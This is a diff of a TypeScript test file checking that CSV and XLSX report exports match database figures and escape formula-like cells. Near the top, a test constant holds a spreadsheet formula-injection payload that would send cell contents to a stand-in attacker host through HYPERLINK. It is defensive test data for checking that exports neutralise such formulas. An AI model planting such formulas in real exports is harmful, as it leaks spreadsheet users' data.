@@ -18,7 +18,11 @@ const EVIL_TEAM = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
 
 let temp: TempDatabase
 let raw: Database.Database
-let app: { prisma: typeof import('@/lib/db/client').prisma; getReport: typeof import('@/lib/reports/get-report').getReport; getScopeBySlug: typeof import('@/lib/db/queries/teams').getScopeBySlug }
+let app: {
+  prisma: typeof import('@/lib/db/client').prisma
+  getReport: typeof import('@/lib/reports/get-report').getReport
+  getScopeBySlug: typeof import('@/lib/db/queries/teams').getScopeBySlug
+}
 
 beforeAll(async () => {
   temp = createTempDatabase('exports-agree')
@@ -47,7 +51,15 @@ beforeAll(async () => {
   await prisma.figure.createMany({
     data: [
       { scope: team.id, quarter: QUARTER, metricKey: 'releases', value: 7, source: 'manual', updatedBy: 'mallory' },
-      { scope: team.id, quarter: QUARTER, metricKey: 'attrition_rate', value: 16.666666666666664, n: 90, source: '-1+1', updatedBy: 'mallory' },
+      {
+        scope: team.id,
+        quarter: QUARTER,
+        metricKey: 'attrition_rate',
+        value: 16.666666666666664,
+        n: 90,
+        source: '-1+1',
+        updatedBy: 'mallory',
+      },
     ],
   })
   raw = new Database(temp.file, { readonly: true })
@@ -68,7 +80,9 @@ interface Stored {
 
 /** What the database holds for one figure, and the target in effect (latest set at or before the quarter, else the default). */
 function stored(scope: string, metricKey: string) {
-  const figure = raw.prepare('SELECT value, n, source, updatedAt FROM Figure WHERE scope = ? AND quarter = ? AND metricKey = ?').get(scope, QUARTER, metricKey) as Stored | undefined
+  const figure = raw
+    .prepare('SELECT value, n, source, updatedAt FROM Figure WHERE scope = ? AND quarter = ? AND metricKey = ?')
+    .get(scope, QUARTER, metricKey) as Stored | undefined
   const target = raw
     .prepare('SELECT value FROM Target WHERE scope = ? AND metricKey = ? AND quarter <= ? ORDER BY quarter DESC LIMIT 1')
     .get(scope, metricKey, QUARTER) as { value: number | null } | undefined
@@ -84,7 +98,9 @@ function sameNumber(a: number | null, b: number | null): boolean {
 
 const quoted = (text: string) => (/^[=+\-@\t\r]/.test(text) ? `'${text}` : text)
 
-async function exportsOf(slug: string): Promise<{ model: ReportModel; csv: Record<string, string>[]; xlsx: Record<string, ExcelJS.CellValue>[] }> {
+async function exportsOf(
+  slug: string,
+): Promise<{ model: ReportModel; csv: Record<string, string>[]; xlsx: Record<string, ExcelJS.CellValue>[] }> {
   const scope = await app.getScopeBySlug(slug)
   if (!scope) throw new Error(`no scope ${slug}`)
   const model = await app.getReport(scope, QUARTER, 'Tester')
@@ -108,7 +124,9 @@ describe.each([
   it('give every figure exactly as the database holds it, in CSV and XLSX alike', async () => {
     const { csv, xlsx, model } = await exportsOf(slug)
     const scopeId = fixedId ?? (raw.prepare('SELECT id FROM Team WHERE slug = ?').get(slug) as { id: string }).id
-    expect(csv.map((r) => r['metric key'])).toEqual(CATALOGUE.map((m) => m.key).filter((k) => model.appendix.figures.some((f) => f.key === k)))
+    expect(csv.map((r) => r['metric key'])).toEqual(
+      CATALOGUE.map((m) => m.key).filter((k) => model.appendix.figures.some((f) => f.key === k)),
+    )
     expect(csv).toHaveLength(CATALOGUE.length)
     expect(xlsx).toHaveLength(CATALOGUE.length)
     let withValue = 0
@@ -119,25 +137,41 @@ describe.each([
       const value = figure?.value ?? null
       const where = `${slug}/${key}`
       if (value !== null) withValue++
-      expect([where, row.quarter, row.scope, cell.quarter, cell.scope]).toEqual([where, QUARTER, quoted(scopeName), QUARTER, quoted(scopeName)])
+      expect([where, row.quarter, row.scope, cell.quarter, cell.scope]).toEqual([
+        where,
+        QUARTER,
+        quoted(scopeName),
+        QUARTER,
+        quoted(scopeName),
+      ])
       expect([where, cell['metric key']]).toEqual([where, key])
       // A blank figure is an empty cell, never 0.
       expect([where, row.value === '' ? null : sameNumber(Number(row.value), value)]).toEqual([where, value === null ? null : true])
       expect([where, sameNumber(cell.value as number | null, value)]).toEqual([where, true])
       expect([where, row.n, cell.n]).toEqual([where, figure?.n == null ? '' : String(figure.n), figure?.n ?? null])
-      expect([where, row.target === '' ? null : sameNumber(Number(row.target), target), sameNumber(cell.target as number | null, target)]).toEqual([
+      expect([
         where,
-        target === null ? null : true,
-        true,
-      ])
+        row.target === '' ? null : sameNumber(Number(row.target), target),
+        sameNumber(cell.target as number | null, target),
+      ]).toEqual([where, target === null ? null : true, true])
       const source = value === null ? '' : quoted(figure!.source)
       expect([where, row.source, cell.source ?? '']).toEqual([where, source, source])
       const updatedAt = figure ? new Date(figure.updatedAt).toISOString() : ''
-      expect([where, row['updated at'], cell['updated at'] instanceof Date ? cell['updated at'].toISOString() : cell['updated at'] ?? '']).toEqual([where, updatedAt, updatedAt])
+      expect([
+        where,
+        row['updated at'],
+        cell['updated at'] instanceof Date ? cell['updated at'].toISOString() : (cell['updated at'] ?? ''),
+      ]).toEqual([where, updatedAt, updatedAt])
       // The score is the one the report shows, the same in both files.
-      expect([where, row.score, cell.score ?? '']).toEqual([where, model.appendix.figures[i].scoreText.replace('—', ''), row.score === '' ? '' : Number(row.score)])
+      expect([where, row.score, cell.score ?? '']).toEqual([
+        where,
+        model.appendix.figures[i].scoreText.replace('—', ''),
+        row.score === '' ? '' : Number(row.score),
+      ])
     })
-    const count = raw.prepare('SELECT COUNT(*) AS c FROM Figure WHERE scope = ? AND quarter = ? AND value IS NOT NULL').get(scopeId, QUARTER) as { c: number }
+    const count = raw
+      .prepare('SELECT COUNT(*) AS c FROM Figure WHERE scope = ? AND quarter = ? AND value IS NOT NULL')
+      .get(scopeId, QUARTER) as { c: number }
     expect(withValue).toBe(count.c)
   })
 })
